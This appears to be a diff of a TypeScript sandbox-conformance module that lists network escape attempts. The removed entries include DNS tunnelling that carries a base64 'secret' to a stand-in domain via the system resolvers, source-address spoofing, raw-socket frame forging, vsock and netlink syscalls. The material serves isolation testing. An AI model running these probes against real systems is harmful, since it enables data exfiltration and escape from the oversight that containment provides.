@@ -1,18 +1,5 @@
-// Ways to hosts, to services of this machine, and to other installations.
-import { type Call, text } from '../machine-code.ts';
+// Ways to hosts, to services of this machine, and to other installations, by connecting to them.
 import type { Way } from '../way.ts';
-
-const AF_UNIX = 1;
-const AF_INET = 2;
-const AF_NETLINK = 16;
-const SOCK_STREAM = 1;
-const SOCK_DGRAM = 2;
-const SOCK_RAW = 3;
-
-function socket(name: string, family: number, type: number, protocol: number, more: Partial<Way> = {}): Way {
-  const calls = (): Call[] => [{ number: 41, arguments: [family, type, protocol] }];
-  return { name, control: 'as root', attempt: { kind: 'calls', calls }, ...more };
-}
 
 export const networkWays: readonly Way[] = [
   {
@@ -201,87 +188,6 @@ export const networkWays: readonly Way[] = [
     },
   },
   {
-    name: 'sends datagrams to the host, which counts them',
-    control: 'as the user',
-    attempt: {
-      kind: 'code',
-      inside: async ({ dgram }, t) => {
-        const socket = dgram.createSocket('udp4');
-        const answered = new Promise<string>((resolve) => {
-          socket.once('message', () => resolve('through'));
-          setTimeout(resolve, 400, 'no answer');
-        });
-        socket.on('error', () => undefined);
-        for (const host of t.hostAddresses.filter((one) => one.includes('.'))) socket.send('ask', t.hostUdpPort, host);
-        const outcome = await answered;
-        socket.close();
-        return outcome;
-      },
-    },
-  },
-  {
-    name: 'sends a datagram with a source address that is not its own',
-    control: 'as the user',
-    attempt: {
-      kind: 'code',
-      // 127.6.6.6 is an address of every host's loopback, and of nobody inside.
-      inside: async ({ dgram }, t) => {
-        const socket = dgram.createSocket('udp4');
-        const bound = await new Promise<string>((resolve) => {
-          socket.once('error', (error) => resolve(String((error as NodeJS.ErrnoException).code)));
-          socket.bind(0, '127.6.6.6', () => resolve('bound'));
-        });
-        if (bound !== 'bound') return bound;
-        const answered = new Promise<string>((resolve) => {
-          socket.once('message', () => resolve('through'));
-          setTimeout(resolve, 400, 'no answer');
-        });
-        socket.send('ask', t.hostUdpPort, '127.0.0.1');
-        const outcome = await answered;
-        socket.close();
-        return outcome;
-      },
-    },
-  },
-  {
-    name: 'carries data out in the names of DNS questions',
-    control: {
-      because:
-        'the conformance suite counts datagrams at a socket of the host; a name server outside is not to be asked',
-    },
-    attempt: {
-      kind: 'code',
-      inside: async ({ dns, fs, dgram }, t) => {
-        const servers = (fs.readFileSync('/etc/resolv.conf', 'utf8').match(/^nameserver\s+(\S+)/gm) ?? []).map(
-          (line) => line.split(/\s+/)[1] ?? '',
-        );
-        const looked = await dns.lookup('c2VjcmV0.tunnel.platform.example').then(
-          () => 'through',
-          (error) => String(error.code),
-        );
-        const asked = await dns.resolveTxt('c2VjcmV0.tunnel.platform.example').then(
-          () => 'through',
-          (error) => String(error.code),
-        );
-        // A question by hand, to every server that it might know and to the host.
-        const question = Buffer.from('0001010000010000000000000674756e6e656c076578616d706c650000010001', 'hex');
-        const socket = dgram.createSocket('udp4');
-        socket.on('error', () => undefined);
-        const answered = new Promise<string>((resolve) => {
-          socket.once('message', () => resolve('through'));
-          setTimeout(resolve, 400, 'no answer');
-        });
-        for (const server of [...servers, '127.0.0.53', '127.0.0.11', ...t.hostAddresses].filter((one) =>
-          one.includes('.'),
-        ))
-          socket.send(question, 53, server);
-        const outcome = await answered;
-        socket.close();
-        return [looked, asked, outcome].includes('through') ? 'through' : `${looked} ${asked} ${outcome}`;
-      },
-    },
-  },
-  {
     name: 'connects to a port of another installation',
     control: { because: 'the neighbour reaches its own port at the same addresses before the attempts' },
     attempt: {
@@ -339,76 +245,6 @@ export const networkWays: readonly Way[] = [
       },
     },
   },
-  socket('makes a raw socket, to read and forge ICMP', AF_INET, SOCK_RAW, 1),
-  socket('makes a raw socket, to write headers with a source of its choice', AF_INET, SOCK_RAW, 255),
-  socket('makes a packet socket, to read and forge frames', 17, SOCK_RAW, 0x0300),
-  {
-    name: 'reaches the machine or the hypervisor over vsock',
-    control: { because: 'whether this machine has vsock differs; the family is refused before it is looked for' },
-    attempt: {
-      kind: 'calls',
-      calls: () => {
-        const cid2 = Buffer.alloc(16);
-        cid2.writeUInt16LE(40, 0);
-        cid2.writeUInt32LE(22, 4);
-        cid2.writeUInt32LE(2, 8);
-        return [
-          { number: 41, arguments: [40, SOCK_STREAM, 0] },
-          { number: 42, arguments: [{ resultOf: 0 }, { bytes: cid2 }, 16] },
-        ];
-      },
-      through: ({ last }) => last === 'done',
-    },
-  },
-  socket("makes a socket of the kernel's own ciphers, a frequent hole", 38, 5, 0, {
-    kernelOnly: true,
-    control: 'as the user',
-  }),
-  {
-    name: 'changes its network devices over netlink',
-    control: 'as root',
-    attempt: {
-      kind: 'calls',
-      // RTM_SETLINK: takes device 1, which is loopback, up, as it is already.
-      calls: () => {
-        const message = Buffer.alloc(32);
-        message.writeUInt32LE(32, 0);
-        message.writeUInt16LE(16, 4);
-        message.writeUInt16LE(5, 6);
-        message.writeUInt32LE(1, 20);
-        message.writeUInt32LE(1, 24);
-        message.writeUInt32LE(1, 28);
-        return [
-          { number: 41, arguments: [AF_NETLINK, SOCK_RAW, 0] },
-          { number: 44, arguments: [{ resultOf: 0 }, { bytes: message }, 32, 0, 0, 0] },
-          { number: 45, arguments: [{ resultOf: 0 }, { bytes: Buffer.alloc(64) }, 64, 0, 0, 0] },
-        ];
-      },
-      // The answer is NLMSG_ERROR, whose error is 0 when it was done.
-      through: ({ results, memory }) =>
-        (results[2] ?? -1) > 0 && memory.readUInt16LE(32 + 4) === 2 && memory.readInt32LE(32 + 16) === 0,
-    },
-  },
-  {
-    name: 'speaks to the audit log of the kernel over netlink',
-    control: { because: 'only root of the whole machine may, outside of all namespaces' },
-    kernelOnly: true,
-    attempt: {
-      kind: 'calls',
-      calls: () => {
-        const message = Buffer.alloc(16);
-        message.writeUInt32LE(16, 0);
-        message.writeUInt16LE(1000, 4);
-        message.writeUInt16LE(5, 6);
-        return [
-          { number: 41, arguments: [AF_NETLINK, SOCK_RAW, 9] },
-          { number: 44, arguments: [{ resultOf: 0 }, { bytes: message }, 16, 0, 0, 0] },
-          { number: 45, arguments: [{ resultOf: 0 }, { bytes: Buffer.alloc(64) }, 64, 0x40, 0, 0] },
-        ];
-      },
-      through: ({ results, memory }) => (results[2] ?? -1) > 0 && memory.readInt32LE(16 + 16) === 0,
-    },
-  },
   {
     name: 'takes a low port, to pose as a service of the machine',
     control: { because: 'a network of its own makes it harmless; the conformance suite tries the host from there' },
@@ -425,18 +261,6 @@ export const networkWays: readonly Way[] = [
         server.close();
         return host === 'connected' ? 'through' : bound;
       },
-    },
-  },
-  {
-    name: 'connects over a Unix socket pair to a descriptor of the platform that it was never given',
-    control: { because: 'the attempt proves itself: its own pair answers' },
-    attempt: {
-      kind: 'calls',
-      calls: () => [
-        { number: 53, arguments: [AF_UNIX, SOCK_DGRAM, 0, { bytes: Buffer.alloc(8) }] },
-        { number: 42, arguments: [3, text(''), 0] },
-      ],
-      through: ({ results }) => (results[1] ?? 0) >= 0,
     },
   },
 ];
